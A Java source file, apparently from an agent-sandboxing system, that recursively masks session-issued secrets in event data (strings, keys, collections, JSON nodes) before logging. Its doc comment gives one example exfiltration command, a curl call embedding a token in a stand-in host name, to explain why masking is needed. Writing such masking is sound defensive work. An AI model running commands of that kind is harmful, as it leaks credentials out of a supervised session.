package dev.taskbound.core.session;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.taskbound.core.broker.SecretMasker;
import java.util.ArrayList;
import java.util.Collection;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * An event's data with every value the session issued taken out before it is recorded: much of it is
 * the agent's own text (the hosts and paths it asks for, its approval targets, its hook events), and
 * an agent that holds a token can put it in a host name ({@code curl https://$TOKEN.example/}), which
 * the log, the summary and the report would otherwise carry in clear. Only the issued values are
 * masked ({@link SecretMasker#maskValues}): a token-shaped pattern could match a key id or a digest
 * the evidence needs as it is. Stateless.
 */
final class EventMasking {
  private EventMasking() {}

  /** {@code data} with issued values masked in every string, key and JSON text, nested ones included. */
  static Map<String, ?> of(Map<String, ?> data, SecretMasker masker) {
    Map<String, Object> out = new LinkedHashMap<>();
    data.forEach((k, v) -> out.put(masker.maskValues(k), value(v, masker)));
    return out;
  }

  private static Object value(Object v, SecretMasker masker) {
    if (v instanceof String s) {
      return masker.maskValues(s);
    }
    if (v instanceof Map<?, ?> m) {
      Map<Object, Object> out = new LinkedHashMap<>();
      m.forEach((k, x) -> out.put(k instanceof String s ? masker.maskValues(s) : k, value(x, masker)));
      return out;
    }
    if (v instanceof Collection<?> c) {
      List<Object> out = new ArrayList<>(c.size());
      c.forEach(x -> out.add(value(x, masker)));
      return out;
    }
    if (v instanceof JsonNode node && (node.isContainerNode() || node.isTextual())) {
      return json(node.deepCopy(), masker);
    }
    return v;
  }

  private static JsonNode json(JsonNode node, SecretMasker masker) {
    if (node.isTextual()) {
      return TextNode.valueOf(masker.maskValues(node.textValue()));
    }
    if (node instanceof ObjectNode object) {
      ObjectNode out = object.objectNode();
      Iterator<Map.Entry<String, JsonNode>> fields = object.fields();
      while (fields.hasNext()) {
        Map.Entry<String, JsonNode> field = fields.next();
        out.set(masker.maskValues(field.getKey()), json(field.getValue(), masker));
      }
      return out;
    }
    if (node instanceof ArrayNode array) {
      for (int i = 0; i < array.size(); i++) {
        array.set(i, json(array.get(i), masker));
      }
    }
    return node;
  }
}
